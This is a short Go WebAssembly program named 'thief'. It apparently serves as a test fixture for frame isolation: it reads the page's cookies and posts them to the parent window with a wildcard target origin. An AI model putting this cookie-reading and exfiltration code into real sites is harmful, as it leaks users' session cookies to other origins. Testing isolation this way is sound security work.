//go:build js && wasm

// Command thief is a foreign program: another site hands it to the frame, and it reports to that
// site the cookies that it can reach.
package main

import "syscall/js"

func main() {
	js.Global().Get("parent").Call("postMessage", map[string]any{"thief": cookies()}, "*")
	select {}
}

// cookies returns the cookies, or the name of the error. Without Reflect the error would end the program.
func cookies() (text string) {
	defer func() {
		if err, ok := recover().(js.Error); ok {
			text = err.Get("name").String()
		}
	}()
	return js.Global().Get("Reflect").Call("get", js.Global().Get("document"), "cookie").String()
}
